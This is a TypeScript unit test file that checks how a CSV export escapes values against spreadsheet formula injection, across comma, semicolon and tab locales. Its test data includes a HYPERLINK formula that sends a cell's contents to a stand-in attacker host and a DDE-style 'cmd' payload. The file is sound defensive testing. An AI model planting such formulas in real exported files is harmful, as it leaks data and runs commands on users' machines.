import { describe, expect, it } from 'vitest';
import { csvLine } from '../../../cli/csv.ts';
import { toCsv } from '../../../dashboard/lib/table.ts';
import { csvCell, type CsvValue } from '../../../shared/csv.ts';
import { emptyRecord } from '../../../storage/schema.ts';

/** What a spreadsheet splitting on `separator` would see as the cells of one CSV field, unquoted. */
function cellsSeenBy(field: string, separator: string): string[] {
  const unquoted = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
  return unquoted.split(separator);
}

describe('csvCell', () => {
  it.each<[string, CsvValue, string]>([
    ['plain text, quoted', '/pricing', '"/pricing"'],
    ['a quote, doubled', 'say "hi"', '"say ""hi"""'],
    ['a newline, inside the quotes', 'a\nb', '"a\nb"'],
    ['a leading =', '=1+1', `"'=1+1"`],
    ['a leading +', '+1', `"'+1"`],
    ['a leading -', '-1', `"'-1"`],
    ['a leading @', '@SUM(A1)', `"'@SUM(A1)"`],
    ['a leading tab', '\tx', `"'\tx"`],
    ['a leading CR', '\rx', `"'\rx"`],
    ['a space before =', ' =1+1', `"' =1+1"`],
    ['an NBSP before =', '\u00a0=1+1', `"'\u00a0=1+1"`],
    ['an ideographic space before +', '\u3000+1', `"'\u3000+1"`],
    ['a BOM before @', '\ufeff@x', `"'\ufeff@x"`],
    [
      '=HYPERLINK after ;',
      'x;=HYPERLINK("https://evil.example/?"&A1,"Click")',
      `"'x;=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`,
    ],
    ['= after ; and spaces', 'x; \u00a0=1', `"'x; \u00a0=1"`],
    ['+ after ,', 'a,+1', `"'a,+1"`],
    ['- after a tab', 'a\t-1', `"'a\t-1"`],
    ['an inner = not after a separator', 'a=b', '"a=b"'],
    ['a ; not followed by a formula', 'a;b', '"a;b"'],
    ['an empty string', '', ''],
    ['null', null, ''],
    ['undefined', undefined, ''],
    ['a number', -3.5, '-3.5'],
    ['zero', 0, '0'],
    ['a boolean', true, 'true'],
  ])('%s', (_name, input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('leaves no cell that starts with a formula character in comma, semicolon or tab locales', () => {
    const hostile = ['x;=cmd|"/c calc"!A0', ' ;  @SUM(1)', 'a\u2003;\u2003-2', 'ok,=1', '\t=1', 'a\t+1'];
    for (const value of hostile) {
      for (const separator of [',', ';', '\t']) {
        const cells = cellsSeenBy(csvCell(value), separator);
        expect(
          cells[0]!.startsWith("'"),
          `${JSON.stringify(value)} split on ${JSON.stringify(separator)}`,
        ).toBe(true);
      }
    }
  });
});

describe('the dashboard and the CLI share it', () => {
  it('escapes the same hostile value the same way in both exports', () => {
    const value = 'x;=HYPERLINK("https://evil.example")';
    const record = emptyRecord('action', 1_700_000_000_000, 'example.com');
    record.name = value;
    const dashboard = toCsv([{ key: 'v', label: 'Action' }], [{ v: value }]).split('\r\n')[1];
    expect(csvLine(record)).toContain(`,${dashboard},`);
  });
});
